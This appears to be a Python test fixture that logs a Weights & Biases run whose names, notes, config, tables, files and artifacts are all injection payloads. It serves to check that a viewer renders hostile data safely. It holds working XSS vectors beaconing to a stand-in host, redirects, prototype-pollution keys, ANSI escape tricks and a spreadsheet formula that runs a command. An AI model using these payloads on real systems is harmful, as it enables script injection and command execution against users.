"""Logs a run in which everything that can be named or said is an attack. Prints its id."""

import json
import os
import sys

import wandb

MARK = "window.__ran=1;fetch('http://attack.invalid/')"
SCRIPT = f"<script>{MARK}</script>"
IMAGE = f'<img src=x onerror="{MARK}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>'
QUOTES = f"\"'><svg/onload={MARK}>${{{MARK}}}{{{{constructor.constructor('{MARK}')()}}}}"
MARKDOWN = f"""# {IMAGE}
[click](javascript:{MARK}) [data](data:text/html;base64,PHNjcmlwdD4=) ![x](x"onerror="{MARK})
<a href="javascript:{MARK}">a</a> {SCRIPT} <iframe srcdoc="{SCRIPT}"></iframe>
<javascript:{MARK}> [vb](vbscript:x) [ok](https://example.org/"onmouseover="{MARK})
"""
PAGE = f"""<html><head><meta http-equiv="refresh" content="0;url=http://attack.invalid/">
{SCRIPT}<base href="http://attack.invalid/"></head><body onload="{MARK}">{IMAGE}{SVG}
<form action="http://attack.invalid/"><button autofocus onfocus="{MARK}">b</button></form>
<a href="javascript:{MARK}" target="_top">go</a><iframe src="javascript:{MARK}"></iframe>
<script>parent.__ran=1; top.location='http://attack.invalid/'; document.cookie='a=b'</script>
<img src="http://attack.invalid/pixel.png"><link rel=stylesheet href="http://attack.invalid/a.css">
</body></html>"""
ANSI = (
    f"\x1b]8;;javascript:{MARK}\x07link\x1b]8;;\x07 \x1b[31m{IMAGE}\x1b[0m \x1b]0;title\x07 \x9b5m"
)

where = os.environ["WANDB_DIR"]
run = wandb.init(
    project=sys.argv[1],
    id="attack",
    name=IMAGE,
    notes=MARKDOWN,
    tags=[IMAGE[:60], "__proto__"],
    group=QUOTES[:120],
    job_type=SCRIPT,
    config={IMAGE: QUOTES, "__proto__": {"polluted": 1}, "constructor": SCRIPT, "a": {SCRIPT: 1}},
)
for step in range(3):
    run.log({IMAGE: step, f"{SCRIPT}/{QUOTES}": step, "__proto__": step, "loss": step})
print(ANSI)
print(SCRIPT, file=sys.stderr)
names = {"page.html": PAGE, "picture.svg": SVG, f"{IMAGE[:20].replace('/', '')}.html": PAGE}
for name, text in names.items():
    with open(f"{where}/{name}", "w") as file:
        file.write(text)
    run.save(f"{where}/{name}", base_path=where)
table = wandb.Table(columns=[IMAGE, "k"], data=[[SCRIPT, 1], [SVG, 2], ["=cmd|'/c calc'!A1", 3]])
run.log({"page": wandb.Html(PAGE), "table": table, QUOTES: wandb.Html(SVG)})
artifact = wandb.Artifact("evil", "model", description=MARKDOWN, metadata={IMAGE: SCRIPT})
with artifact.new_file(f"{SVG[:4]}.svg", mode="w") as file:
    file.write(SVG)
run.log_artifact(artifact, aliases=["x<img src=x onerror=alert(1)>"]).wait()
run.alert(IMAGE, MARKDOWN, level=wandb.AlertLevel.WARN)
run.summary["best"] = SVG
run.finish()
print(json.dumps(run.id))
